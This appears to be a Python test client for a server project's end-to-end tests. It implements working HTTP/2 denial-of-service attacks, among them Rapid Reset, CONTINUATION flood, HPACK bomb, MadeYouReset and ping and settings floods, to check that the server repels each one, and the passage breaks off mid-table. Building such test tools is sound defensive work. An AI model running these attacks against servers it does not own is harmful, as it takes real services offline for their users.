#!/usr/bin/python3
"""HTTP/2 attack client for portico's end-to-end tests.

Opens ONE HTTP/2 connection (h2c with prior knowledge, or TLS with ALPN "h2")
to --target, plays one attack on it and prints one JSON line saying how the
server reacted. The e2e tests use it to show that every attack below is
*repelled* -- the offending connection gets a GOAWAY or is closed -- while
other clients (the ``good`` mode) keep being served.

    h2attack.py --target HOST:PORT [--tls [--ca FILE] [--sni NAME] [--insecure]]
                [--authority NAME] [--path /] [--post-path PATH]
                ATTACK [--variant V] [--count N] [--time-limit S] [options]

Frames are built by hand (struct, plus a tiny HPACK encoder that only emits
static-table indexes and literals), because the attacks need frame sequences
that a conforming state machine such as h2 refuses to send. The ``hpack``
package (Debian python3-hpack) decodes the server's response headers.

Attacks
-------
good
    Not an attack: a well-behaved client. Sends --count (default 100) GET
    requests for --path on one connection, as many at a time as the server's
    SETTINGS_MAX_CONCURRENT_STREAMS and --concurrency (default 100) allow, and
    reads every response. Passes (exit 0) only if every one ends with :status
    200 (or --expect-status). After a GOAWAY it opens no new streams but lets
    the in-flight ones finish.

rapid_reset  (CVE-2023-44487, "HTTP/2 Rapid Reset")
    HEADERS(END_STREAM) immediately followed by RST_STREAM(CANCEL), on a new
    stream id each time, as fast as possible. Streams the client cancels do
    not count against SETTINGS_MAX_CONCURRENT_STREAMS, so the server keeps
    starting (and tearing down) request processing at wire speed.

continuation_flood  (VU#421644, 2024: CVE-2024-27316 httpd, CVE-2024-28182
nghttp2, CVE-2023-45288 Go, CVE-2024-27983 Node.js, ...)
    One HEADERS without END_HEADERS, then an endless run of CONTINUATION
    frames on that stream. Variant ``fragments`` (default): each CONTINUATION
    carries one small literal header field, so the header list grows without
    bound unless the server caps it. Variant ``empty``: zero-length
    CONTINUATIONs, which add nothing to the header list and are only caught
    by a cap on CONTINUATION frames (or on time/bytes per header block).

hpack_bomb  (CVE-2016-6581 python-hpack, CVE-2016-1544 nghttp2; "HPACK Bomb")
    The first header block inserts one large header (4000 bytes, or less to
    fit the server's SETTINGS_HEADER_TABLE_SIZE) into the HPACK dynamic table;
    every later reference to it costs one byte on the wire but adds ~4 KB to
    the decoded header list. Variant ``one_block`` (default): each request's
    block (HEADERS + CONTINUATIONs) references the entry --bomb-refs times
    (default 16000: ~64 MB decoded from ~16 KB), repeated on new streams.
    Variant ``many_blocks``: each block references it only --bomb-refs times
    (default 15: ~60 KB, just under a 64 KiB header list limit), on as many
    new streams as possible.

oversized_headers  (header-list memory exhaustion; no single CVE -- RFC 9113
SETTINGS_MAX_HEADER_LIST_SIZE is only advisory, the server must enforce it)
    Requests whose plain header list (never-indexed literals, 4000-byte
    values) totals --header-bytes (default 1 MiB), split over HEADERS +
    CONTINUATIONs, repeated on new streams.

settings_flood  (CVE-2019-9515, "Settings Flood")
    Endless SETTINGS frames (ENABLE_PUSH=0), each of which the server must
    ACK. Variant ``read`` (default) reads the ACKs; ``noread`` never reads the
    socket, so the ACKs pile up in the server's output queue.

ping_flood  (CVE-2019-9512, "Ping Flood")
    Endless PING frames. Variant ``noread`` (default) never reads the socket,
    so the PING ACKs pile up on the server; ``read`` reads them.

madeyoureset  (CVE-2025-8671, "MadeYouReset")
    Opens a request stream, then sends a frame that obliges the SERVER to
    reset that stream. The reset stream stops counting against the
    concurrency limit while the backend may still be working on the request
    (the server-side twin of Rapid Reset). Repeated on new streams as fast as
    possible. Variants:
      ``wu_zero``        GET, then WINDOW_UPDATE increment 0 on the stream
                         (PROTOCOL_ERROR);
      ``wu_overflow``    GET, then WINDOW_UPDATE 2^31-1, overflowing the
                         stream's send window (FLOW_CONTROL_ERROR);
      ``data_closed``    GET with END_STREAM, then DATA on the half-closed
                         stream (STREAM_CLOSED);
      ``headers_closed`` GET with END_STREAM, then another HEADERS on it
                         (STREAM_CLOSED);
      ``data_overflow``  POST to --post-path, then one more byte of DATA than
                         the server's initial stream window (FLOW_CONTROL_ERROR;
                         waits up to 0.5 s for connection-level credit first);
      ``mix`` (default)  rotates wu_zero, wu_overflow and data_closed.
    RFC 9113 makes all of these stream errors, but servers may escalate some
    to a connection error (GOAWAY), which counts as repelled. A server that
    finishes a small response before it reads the next frame has nothing left
    to reset: use a --path that takes time to serve.

empty_data_flood  (CVE-2019-9518, "Empty Frames Flood")
    A POST stream to --post-path without END_STREAM, followed by endless
    zero-length DATA frames (a new POST stream is opened whenever the server
    resets or ends the current one).

window_update_flood  (control-frame flood; no dedicated CVE, a sibling of
CVE-2019-9512/9515)
    Endless WINDOW_UPDATE frames with increment 1. Variant ``both`` (default)
    alternates between the connection (stream 0) and an open POST stream;
    ``conn`` and ``stream`` use only one of them. (Our receive windows are
    2^30, not 2^31-1, so that the increments do not overflow them.)

zero_window  ("Slow Read": CVE-2016-1546 httpd mod_http2; with ``noread``
also CVE-2019-9517 "Internal Data Buffering")
    Sends SETTINGS_INITIAL_WINDOW_SIZE=0 and never a WINDOW_UPDATE, requests
    --path (should be a large resource) on --streams streams (default 4) and
    then just keeps the connection open. The server can send HEADERS but no
    DATA, and has to time the streams or the connection out. Variant ``read``
    (default) still reads frames -- reading opens no HTTP/2 window -- so that
    first_rst_s tells when the server reset the first stream; ``noread`` never
    reads the socket. Use a --time-limit longer than the server's timeouts;
    elapsed_s is when the server sent GOAWAY or closed.

slow_headers  (slowloris over HTTP/2; cf. CVE-2007-6750 for HTTP/1.1)
    HEADERS without END_HEADERS, then a CONTINUATION carrying a single byte of
    header block every --interval seconds (default 1). The server should give
    up on the incomplete header block: first_rst_s if it resets the stream,
    elapsed_s if it drops the connection. Needs a --time-limit longer than the
    server's timeout.

Running, limits and output
--------------------------
Every attack stops when the server sends GOAWAY, closes the connection,
--time-limit seconds pass (default 10), or --count attack frames have been
sent (then the server's reaction is awaited for --grace seconds, default 1).
All socket I/O is non-blocking and select()-driven, and no new frames are
queued while more than 256 KiB are unsent, so a server that stops reading
stalls the client (reported as "stalled") instead of wedging it. Unless the
variant deliberately does not read, the server's frames are read in parallel:
SETTINGS and PINGs are ACKed, GOAWAY (error code, last-stream-id, debug data)
and RST_STREAMs are recorded, response headers are decoded. In the ``noread``
variants the socket is never read during the attack; a close is seen from the
kernel's TCP state (TCP_INFO) or a failed write, and what the server sent is
parsed afterwards (so there, first_rst_s and a GOAWAY's time are when they
were read, not when they were sent).

One JSON line is printed on stdout::

    {"attack", "variant", "repelled", "goaway", "goaway_error" (e.g.
     "ENHANCE_YOUR_CALM", null without GOAWAY), "closed", "frames_sent",
     "bytes_sent", "rst_received", "responses", "elapsed_s", ...}

plus details: goaway_last_stream_id, goaway_debug, close ("fin", "reset",
...), stopped_by ("server", "time limit", "count", "done"), stalled,
last_write_s, streams_opened, rst_codes, first_rst_s, statuses,
acks_received, data_bytes_received, server_settings; for ``good`` also ok,
succeeded, requested. elapsed_s is seconds from connecting to the server's
GOAWAY or close (or to when the client stopped); frames_sent counts every
frame fully written to the socket, set-up and ACKs included, while --count
limits the attack's own frames; responses counts final (>= 200) :status
headers received. A connection or TLS failure prints {"attack", "variant",
"error"} instead.

Exit status: 0 repelled (GOAWAY received or connection closed within the time
limit), 1 not repelled, 2 usage or connection error. For ``good``: 0 only if
every response succeeded, else 1.

Examples::

    h2attack.py --target 127.0.0.1:8080 good --count 200
    h2attack.py --target 127.0.0.1:8443 --tls --ca ca.pem --sni www.example \\
        rapid_reset --time-limit 5
    h2attack.py --target 127.0.0.1:8080 --path /big zero_window --time-limit 90
"""

import argparse
import collections
import json
import select
import socket
import ssl
import struct
import sys
import time
import traceback

import hpack
import hpack.table

# --- protocol constants (RFC 9113) -----------------------------------------

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)

FLAG_END_STREAM = 0x1
FLAG_ACK = 0x1
FLAG_END_HEADERS = 0x4
FLAG_PADDED = 0x8
FLAG_PRIORITY = 0x20

SETTINGS_HEADER_TABLE_SIZE = 0x1
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5
SETTINGS_MAX_HEADER_LIST_SIZE = 0x6

SETTING_NAMES = {
    1: 'HEADER_TABLE_SIZE', 2: 'ENABLE_PUSH', 3: 'MAX_CONCURRENT_STREAMS',
    4: 'INITIAL_WINDOW_SIZE', 5: 'MAX_FRAME_SIZE', 6: 'MAX_HEADER_LIST_SIZE',
    8: 'ENABLE_CONNECT_PROTOCOL', 9: 'NO_RFC7540_PRIORITIES',
}

ERROR_NAMES = [
    'NO_ERROR', 'PROTOCOL_ERROR', 'INTERNAL_ERROR', 'FLOW_CONTROL_ERROR',
    'SETTINGS_TIMEOUT', 'STREAM_CLOSED', 'FRAME_SIZE_ERROR', 'REFUSED_STREAM',
    'CANCEL', 'COMPRESSION_ERROR', 'CONNECT_ERROR', 'ENHANCE_YOUR_CALM',
    'INADEQUATE_SECURITY', 'HTTP_1_1_REQUIRED',
]
CANCEL = 0x8

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
MAX_WINDOW = 2**31 - 1
# Our receive windows (connection and streams): large, yet far enough below
# 2^31-1 that WINDOW_UPDATE(1) floods do not overflow the server's send window.
RECV_WINDOW = 2**30
MAX_STREAM_ID = 2**31 - 1
DEFAULT_WINDOW = 65535
DEFAULT_FRAME_SIZE = 16384
DEFAULT_TABLE_SIZE = 4096

# Stop queueing attack frames above HIGH_WATER unsent bytes, resume below
# LOW_WATER: memory stays bounded and a server that stops reading shows up as
# a stalled writer rather than a growing buffer.
HIGH_WATER = 256 * 1024
LOW_WATER = 64 * 1024
IO_CHUNK = 64 * 1024
TLS_CHUNK = 16 * 1024
MAX_IO_PER_PUMP = 1024 * 1024
TCP_ESTABLISHED = 1
TCP_CLOSE_STATES = {7: 'reset', 8: 'fin'}     # TCP_CLOSE, TCP_CLOSE_WAIT
STALL_S = 1.0    # "stalled": unsent data and no write progress for this long

WAIT = 0.02      # generators yield this to mean "let the server talk first"


def error_name(code):
    return ERROR_NAMES[code] if code < len(ERROR_NAMES) else hex(code)


# --- frames ----------------------------------------------------------------

def frame(ftype, flags, sid, payload=b''):
    """One frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    return struct.pack('>IBI', (len(payload) << 8) | ftype, flags, sid) + payload


def settings_frame(pairs=(), ack=False):
    payload = b''.join(struct.pack('>HI', k, v) for k, v in pairs)
    return frame(SETTINGS, FLAG_ACK if ack else 0, 0, payload)


def window_update(sid, increment):
    return frame(WINDOW_UPDATE, 0, sid, struct.pack('>I', increment))


def rst_stream(sid, code):
    return frame(RST_STREAM, 0, sid, struct.pack('>I', code))


def ping(opaque, ack=False):
    return frame(PING, FLAG_ACK if ack else 0, 0, opaque)


def header_frames(sid, block, max_frame, end_stream=True, end_headers=True):
    """HEADERS + as many CONTINUATIONs as `block` needs at `max_frame`."""
    chunks = [block[i:i + max_frame]
              for i in range(0, len(block), max_frame)] or [b'']
    frames = []
    for i, chunk in enumerate(chunks):
        last = i == len(chunks) - 1
        flags = FLAG_END_HEADERS if last and end_headers else 0
        if i == 0:
            frames.append(frame(HEADERS, flags | (FLAG_END_STREAM if end_stream else 0),
                                sid, chunk))
        else:
            frames.append(frame(CONTINUATION, flags, sid, chunk))
    return frames


# --- HPACK encoding (RFC 7541), only what the attacks need -------------------
#
# Request blocks use static-table indexes and never-indexed literals only, so
# they leave the server's dynamic table alone and can be replayed on any
# stream in any order. hpack_bomb adds one literal *with* incremental indexing.

_STATIC = hpack.table.HeaderTable.STATIC_TABLE
STATIC_FULL = {}
STATIC_NAME = {}
for _i, (_n, _v) in enumerate(_STATIC, 1):
    STATIC_FULL.setdefault((_n, _v), _i)
    STATIC_NAME.setdefault(_n, _i)
FIRST_DYNAMIC_INDEX = len(_STATIC) + 1   # 62: the newest dynamic entry


def _b(s):
    return s if isinstance(s, bytes) else s.encode('latin-1')


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7f) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(s):
    s = _b(s)
    return hpack_int(len(s), 7) + s          # no Huffman coding


def hpack_indexed(index):
    return hpack_int(index, 7, 0x80)


def hpack_literal(name, value, index=False):
    """Literal field: with incremental indexing (index=True) or never-indexed."""
    name, value = _b(name), _b(value)
    prefix_bits, first = (6, 0x40) if index else (4, 0x10)
    idx = STATIC_NAME.get(name, 0)
    out = hpack_int(idx, prefix_bits, first)
    if not idx:
        out += hpack_string(name)
    return out + hpack_string(value)


def hpack_block(headers):
    """Stateless block: static-table hits indexed, the rest never-indexed."""
    out = []
    for name, value in headers:
        idx = STATIC_FULL.get((_b(name), _b(value)))
        out.append(hpack_indexed(idx) if idx else hpack_literal(name, value))
    return b''.join(out)


# --- the connection ----------------------------------------------------------

class SetupError(Exception):
    """The connection or the attack could not be set up (exit status 2)."""


class Stream:
    __slots__ = ('status', 'ended', 'reset', 'recv_unacked')

    def __init__(self):
        self.status = None
        self.ended = False          # server sent END_STREAM
        self.reset = None           # RST_STREAM error name from the server
        self.recv_unacked = 0

    @property
    def done(self):
        return self.ended or self.reset is not None


class Conn:
    """Non-blocking HTTP/2 client connection with a hand-fed frame writer."""

    def __init__(self, args):
        self.args = args
        self.sock = None
        self.t0 = None
        self.out = bytearray()
        self.frame_ends = collections.deque()   # absolute byte offsets
        self.bytes_queued = 0
        self.bytes_sent = 0
        self.frames_sent = 0
        self.last_write_at = 0.0
        self.inbuf = bytearray()
        self.reading = True
        self.closed = False
        self.close_how = None
        self.closed_at = None
        self.goaway = None
        self.server_settings = None
        self.settings_acks = 0
        self.pings_acked = 0
        self.rst_codes = collections.Counter()
        self.first_rst_at = None
        self.frames_received = collections.Counter()
        self.malformed_frames = 0
        self.streams = {}
        self.responses = 0
        self.data_received = 0
        self.statuses = collections.Counter()
        self.next_sid = 1
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.decoder_error = None
        self.hblock = None               # (sid, end_stream, bytearray)
        self.conn_send_window = DEFAULT_WINDOW
        self.auto_window = True
        self.conn_recv_unacked = 0
        self.stop_on_goaway = True

    # -- set-up --

    def connect(self):
        host, port = self.args.host, self.args.port
        tmo = self.args.connect_timeout
        try:
            sock = socket.create_connection((host, port), timeout=tmo)
        except OSError as e:
            raise SetupError('connect %s:%s: %s' % (host, port, e))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.args.tls:
            try:
                ctx = ssl.create_default_context(cafile=self.args.ca)
            except (OSError, ssl.SSLError) as e:
                sock.close()
                raise SetupError('CA file %s: %s' % (self.args.ca, e))
            if self.args.insecure:
                ctx.check_hostname = False
                ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(['h2'])
            try:
                sock = ctx.wrap_socket(sock, server_hostname=self.args.sni or host)
            except (OSError, ssl.SSLError) as e:
                sock.close()
                raise SetupError('TLS handshake: %s' % e)
            if sock.selected_alpn_protocol() != 'h2':
                sock.close()
                raise SetupError('server did not select ALPN h2 (got %r)'
                                   % sock.selected_alpn_protocol())
        sock.setblocking(False)
        self.sock = sock
        self.t0 = time.monotonic()

    def handshake(self, initial_window=RECV_WINDOW):
        """Preface + SETTINGS; wait for the server's SETTINGS and ACK them."""
        self.auto_window = initial_window > 0
        settings = [(SETTINGS_ENABLE_PUSH, 0),
                    (SETTINGS_INITIAL_WINDOW_SIZE, initial_window)]
        self.queue(PREFACE + settings_frame(settings), nframes=1)
        if self.auto_window:
            self.queue(window_update(0, RECV_WINDOW - DEFAULT_WINDOW))
        deadline = time.monotonic() + self.args.connect_timeout
        while self.server_settings is None:
            if self.inbuf.startswith(b'HTTP/'):
                raise SetupError('server answered %r: no HTTP/2 here'
                                   % bytes(self.inbuf.split(b'\r\n', 1)[0]))
            if self.closed or self.goaway:
                raise SetupError('server closed during the HTTP/2 handshake')
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                raise SetupError('no SETTINGS from the server (is it HTTP/2?)')
            self.pump(min(remaining, 0.1))
        self.pump_while(lambda: self.out, deadline)

    # -- state --

    def elapsed(self):
        return time.monotonic() - self.t0

    def finished(self):
        return self.closed or (self.goaway is not None and self.stop_on_goaway)

    def setting(self, key, default):
        return (self.server_settings or {}).get(SETTING_NAMES[key], default)

    @property
    def max_frame(self):
        return self.setting(SETTINGS_MAX_FRAME_SIZE, DEFAULT_FRAME_SIZE)

    def new_stream(self, track=False):
        """Next client stream id (None once they run out). Only tracked
        streams get a Stream record: floods open millions of streams."""
        sid = self.next_sid
        if sid > MAX_STREAM_ID:
            return None
        self.next_sid += 2
        if track:
            self.streams[sid] = Stream()
        return sid

    def request_block(self, method='GET'):
        a = self.args
        headers = [(':method', method),
                   (':scheme', 'https' if a.tls else 'http'),
                   (':authority', a.authority),
                   (':path', a.post_path if method == 'POST' else a.path),
                   ('user-agent', 'portico-h2attack')]
        if method == 'POST':
            headers.append(('content-type', 'application/octet-stream'))
        return hpack_block(headers)

    # -- output --

    def queue(self, data, nframes=1):
        self.out += data
        self.bytes_queued += len(data)
        for _ in range(nframes):      # all frames of `data` end together
            self.frame_ends.append(self.bytes_queued)

    def _mark_closed(self, how):
        if not self.closed:
            self.closed = True
            self.close_how = how
            self.closed_at = self.elapsed()

    def _write(self):
        chunk_size = TLS_CHUNK if self.args.tls else IO_CHUNK
        budget = MAX_IO_PER_PUMP
        while self.out and budget > 0 and not self.closed:
            try:
                n = self.sock.send(memoryview(self.out)[:chunk_size])
            except (BlockingIOError, InterruptedError,
                    ssl.SSLWantWriteError, ssl.SSLWantReadError):
                return
            except (ConnectionResetError, BrokenPipeError):
                self._mark_closed('reset')
                return
            except (OSError, ssl.SSLError) as e:
                self._mark_closed('write error: %s' % e)
                return
            del self.out[:n]
            self.bytes_sent += n
            if n:
                self.last_write_at = self.elapsed()
            budget -= n
            while self.frame_ends and self.frame_ends[0] <= self.bytes_sent:
                self.frame_ends.popleft()
                self.frames_sent += 1

    # -- input --

    def _read(self):
        budget = MAX_IO_PER_PUMP
        while budget > 0 and not self.closed:
            try:
                data = self.sock.recv(IO_CHUNK)
            except (BlockingIOError, InterruptedError,
                    ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except ConnectionResetError:
                self._mark_closed('reset')
                break
            except (ssl.SSLEOFError, ssl.SSLZeroReturnError):
                self._mark_closed('fin')
                break
            except (OSError, ssl.SSLError) as e:
                self._mark_closed('read error: %s' % e)
                break
            if not data:
                self._mark_closed('fin')
                break
            self.inbuf += data
            budget -= len(data)
        self._parse()

    def _parse(self):
        buf = self.inbuf
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], 'big')
            if len(buf) - pos < 9 + length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], 'big') & MAX_STREAM_ID
            if ftype == DATA:           # only its length matters; skip the copy
                self.frames_received[DATA] += 1
                self._on_data(sid, flags, length)
            else:
                payload = bytes(buf[pos + 9:pos + 9 + length])
                try:
                    self._on_frame(ftype, flags, sid, payload)
                except struct.error:    # a too-short frame: note it, go on
                    self.malformed_frames += 1
            pos += 9 + length
        del buf[:pos]

    def _on_frame(self, ftype, flags, sid, payload):
        self.frames_received[ftype] += 1
        if ftype == GOAWAY:
            last_sid, code = struct.unpack('>II', payload[:8])
            if self.goaway is None:
                self.goaway = {'error': error_name(code),
                               'last_stream_id': last_sid & MAX_STREAM_ID,
                               'debug': payload[8:200].decode('latin-1'),
                               'at': self.elapsed()}
        elif ftype == RST_STREAM:
            code = error_name(struct.unpack('>I', payload[:4])[0])
            self.rst_codes[code] += 1
            if self.first_rst_at is None:
                self.first_rst_at = self.elapsed()
            if sid in self.streams:
                self.streams[sid].reset = code
        elif ftype == SETTINGS:
            if flags & FLAG_ACK:
                self.settings_acks += 1
                return
            values = {}
            for i in range(0, len(payload) - 5, 6):
                k, v = struct.unpack('>HI', payload[i:i + 6])
                values[SETTING_NAMES.get(k, str(k))] = v
            if self.server_settings is None:
                self.server_settings = values
            else:
                self.server_settings.update(values)
            self.queue(settings_frame(ack=True))
        elif ftype == PING:
            if flags & FLAG_ACK:
                self.pings_acked += 1
            else:
                self.queue(ping(payload, ack=True))
        elif ftype == WINDOW_UPDATE:
            if sid == 0:
                self.conn_send_window += struct.unpack('>I', payload[:4])[0]
        elif ftype in (HEADERS, PUSH_PROMISE):
            frag = payload
            if flags & FLAG_PADDED:
                frag = frag[1:len(frag) - frag[0]]
            if ftype == HEADERS and flags & FLAG_PRIORITY:
                frag = frag[5:]
            if ftype == PUSH_PROMISE:
                frag = frag[4:]
            self.hblock = (sid, ftype == HEADERS and bool(flags & FLAG_END_STREAM),
                           bytearray(frag))
            if flags & FLAG_END_HEADERS:
                self._header_block_done()
        elif ftype == CONTINUATION:
            if self.hblock is not None:
                self.hblock[2].extend(payload)
                if flags & FLAG_END_HEADERS:
                    self._header_block_done()

    def _header_block_done(self):
        sid, end_stream, block = self.hblock
        self.hblock = None
        if self.decoder_error:
            return
        try:
            headers = self.decoder.decode(bytes(block), raw=True)
        except Exception as e:          # hpack raises several error classes
            self.decoder_error = '%s: %s' % (type(e).__name__, e)
            return
        stream = self.streams.get(sid)
        for name, value in headers:
            if name == b':status' and value.isdigit() and int(value) >= 200:
                self.responses += 1          # one final :status per stream
                self.statuses[int(value)] += 1
                if stream is not None:
                    stream.status = int(value)
        if end_stream and stream is not None:
            stream.ended = True

    def _on_data(self, sid, flags, length):
        self.data_received += length
        stream = self.streams.get(sid)
        if stream is not None and flags & FLAG_END_STREAM:
            stream.ended = True
        if not self.auto_window:
            return
        # Top our windows up when half used.
        self.conn_recv_unacked += length
        if self.conn_recv_unacked >= RECV_WINDOW // 2:
            self.queue(window_update(0, self.conn_recv_unacked))
            self.conn_recv_unacked = 0
        if stream is not None and not stream.done:
            stream.recv_unacked += length
            if stream.recv_unacked >= RECV_WINDOW // 2:
                self.queue(window_update(sid, stream.recv_unacked))
                stream.recv_unacked = 0

    def _check_tcp_state(self):
        """Without reading, learn from the kernel whether the peer closed."""
        try:
            state = self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
        except OSError:
            return
        if state != TCP_ESTABLISHED:
            self._mark_closed(TCP_CLOSE_STATES.get(state, 'tcp state %d' % state))

    # -- the I/O loop --

    def pump(self, timeout=0.0):
        """One select() round: write what the socket takes, read what is there."""
        if self.closed:
            return
        rlist = [self.sock] if self.reading else []
        wlist = [self.sock] if self.out else []
        tls_pending = self.reading and self.args.tls and self.sock.pending()
        if tls_pending:
            timeout = 0
        try:
            readable, writable, _ = select.select(rlist, wlist, [], max(timeout, 0))
        except (OSError, ValueError) as e:
            self._mark_closed('select: %s' % e)
            return
        if writable:
            self._write()
        if readable or tls_pending:
            self._read()
        if not self.reading:
            self._check_tcp_state()

    def pump_for(self, seconds, deadline):
        end = min(time.monotonic() + seconds, deadline)
        while not self.finished():
            remaining = end - time.monotonic()
            if remaining <= 0:
                return
            self.pump(min(remaining, 0.05))    # select() on no fds sleeps

    def pump_while(self, cond, deadline):
        while cond() and not self.finished():
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return
            self.pump(min(remaining, 0.05))

    def drain(self, seconds):
        """Read (and parse) what the server already sent, for a short while."""
        self.reading = True
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end:
            before = len(self.inbuf) + sum(self.frames_received.values())
            self.pump(min(0.1, end - time.monotonic()))
            if len(self.inbuf) + sum(self.frames_received.values()) == before:
                break            # nothing arrived for 100 ms
        if self.closed:
            self._read_leftovers()

    def _read_leftovers(self):
        """A close seen on a failed write or from the TCP state leaves what
        arrived before the FIN/RST readable in the kernel: parse it too."""
        how, at = self.close_how, self.closed_at
        for _ in range(64):
            self.closed = False
            self._read()
            if self.closed:
                break
        self.closed, self.close_how, self.closed_at = True, how, at

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass


# --- attacks -------------------------------------------------------------------
#
# Each attack is a generator over the connection: it yields frames (bytes) to
# send, or a float to pause that long while the connection keeps reading and
# writing. The runner stops it when the server reacts or a limit is hit.

def attack_good(conn, a):
    total = a.count
    limit = conn.setting(SETTINGS_MAX_CONCURRENT_STREAMS, a.concurrency)
    concurrency = max(1, min(a.concurrency, limit, total))
    block = conn.request_block()
    sent = []
    while True:
        in_flight = sum(1 for s in sent if not conn.streams[s].done)
        # After a GOAWAY no new streams, but the in-flight ones may complete.
        while len(sent) < total and in_flight < concurrency and conn.goaway is None:
            sid = conn.new_stream(track=True)
            yield from header_frames(sid, block, conn.max_frame)
            sent.append(sid)
            in_flight += 1
        if in_flight == 0 and (len(sent) == total or conn.goaway is not None):
            return
        yield WAIT


def attack_rapid_reset(conn, a):
    block = conn.request_block()
    while True:
        sid = conn.new_stream()
        if sid is None:
            return
        yield from header_frames(sid, block, conn.max_frame)
        yield rst_stream(sid, CANCEL)


def attack_continuation_flood(conn, a):
    sid = conn.new_stream()
    yield frame(HEADERS, FLAG_END_STREAM, sid, conn.request_block())
    i = 0
    while True:
        frag = b'' if a.variant == 'empty' else hpack_literal('x-c', 'c%07d' % i)
        yield frame(CONTINUATION, 0, sid, frag)
        i += 1


def attack_hpack_bomb(conn, a):
    name = 'x-bomb'
    table = conn.setting(SETTINGS_HEADER_TABLE_SIZE, DEFAULT_TABLE_SIZE)
    value_len = min(4000, table - 32 - len(name))
    if value_len < 64:
        raise SetupError('server HEADER_TABLE_SIZE %d too small for a bomb' % table)
    refs = a.bomb_refs or (15 if a.variant == 'many_blocks' else 16000)
    bomb = hpack_indexed(FIRST_DYNAMIC_INDEX) * refs
    base = conn.request_block()
    first = True
    while True:
        sid = conn.new_stream()
        if sid is None:
            return
        block = base
        if first:
            block += hpack_literal(name, 'b' * value_len, index=True)
            first = False
        yield from header_frames(sid, block + bomb, conn.max_frame)


def attack_oversized_headers(conn, a):
    fields = []
    size = 0
    i = 0
    while size < a.header_bytes:
        name, value = 'x-big-%d' % i, 'o' * 4000
        fields.append(hpack_literal(name, value))
        size += len(name) + len(value) + 32      # RFC 9113 header list size
        i += 1
    block = conn.request_block() + b''.join(fields)
    while True:
        sid = conn.new_stream()
        if sid is None:
            return
        yield from header_frames(sid, block, conn.max_frame)


def attack_settings_flood(conn, a):
    conn.reading = a.variant != 'noread'
    f = settings_frame([(SETTINGS_ENABLE_PUSH, 0)])
    while True:
        yield f


def attack_ping_flood(conn, a):
    conn.reading = a.variant == 'read'
    i = 0
    while True:
        yield ping(struct.pack('>Q', i))
        i += 1


# Variants the server must answer with a stream error (RST_STREAM) only;
# ``headers_closed`` is left out as many servers treat it as connection error.
MYR_ROTATION = ('wu_zero', 'wu_overflow', 'data_closed')
MYR_VARIANTS = ('mix',) + MYR_ROTATION + ('headers_closed', 'data_overflow')
CREDIT_WAIT_S = 0.5


def attack_madeyoureset(conn, a):
    get = conn.request_block()
    post = conn.request_block('POST')
    trailers = hpack_block([('x-trailer', '1')])
    i = 0
    while True:
        kind = MYR_ROTATION[i % len(MYR_ROTATION)] if a.variant == 'mix' else a.variant
        i += 1
        sid = conn.new_stream()
        if sid is None:
            return
        if kind == 'data_overflow':
            window = conn.setting(SETTINGS_INITIAL_WINDOW_SIZE, DEFAULT_WINDOW)
            need = window + 1
            # Wait a little for connection-level credit; without it the
            # overflow exceeds the connection window too (a connection error).
            give_up = time.monotonic() + CREDIT_WAIT_S
            while conn.conn_send_window < need and time.monotonic() < give_up:
                yield WAIT
            yield from header_frames(sid, post, conn.max_frame, end_stream=False)
            while need > 0:
                n = min(need, conn.max_frame)
                yield frame(DATA, 0, sid, b'\0' * n)
                conn.conn_send_window -= n
                need -= n
            continue
        yield from header_frames(sid, get, conn.max_frame)
        if kind == 'wu_zero':
            yield window_update(sid, 0)
        elif kind == 'wu_overflow':
            yield window_update(sid, MAX_WINDOW)
        elif kind == 'data_closed':
            yield frame(DATA, 0, sid)
        elif kind == 'headers_closed':
            yield from header_frames(sid, trailers, conn.max_frame)


def open_post(conn):
    sid = conn.new_stream(track=True)
    if sid is None:
        return None, []
    block = conn.request_block('POST')
    return sid, header_frames(sid, block, conn.max_frame, end_stream=False)


def attack_empty_data_flood(conn, a):
    sid = None
    while True:
        if sid is None or conn.streams[sid].done:
            sid, frames = open_post(conn)
            if sid is None:
                return
            yield from frames
        yield frame(DATA, 0, sid)


def attack_window_update_flood(conn, a):
    sid = None
    conn_wu = window_update(0, 1)
    while True:
        if a.variant != 'stream':
            yield conn_wu
        if a.variant != 'conn':
            if sid is None or conn.streams[sid].done:
                sid, frames = open_post(conn)
                if sid is None:
                    return
                yield from frames
            yield window_update(sid, 1)


def attack_zero_window(conn, a):
    block = conn.request_block()
    for _ in range(a.streams):
        yield from header_frames(conn.new_stream(), block, conn.max_frame)
    conn.reading = a.variant != 'noread'      # queued requests still go out
    while True:
        yield 1.0


def attack_slow_headers(conn, a):
    sid = conn.new_stream()
    yield frame(HEADERS, FLAG_END_STREAM, sid, conn.request_block())
    i = 0
    while True:
        for byte in hpack_literal('x-slow-%d' % i, 's' * 64):
            yield a.interval
            yield frame(CONTINUATION, 0, sid, bytes([byte]))
        i += 1


ATTACKS = {
    'good': (attack_good, ['default']),
    'rapid_reset': (attack_rapid_reset, ['default']),
    'continuation_flood': (attack_continuation_flood, ['fragments', 'empty']),
    'hpack_bomb': (attack_hpack_bomb, ['one_block', 'many_blocks']),
    'oversized_headers': (attack_oversized_headers, ['default']),
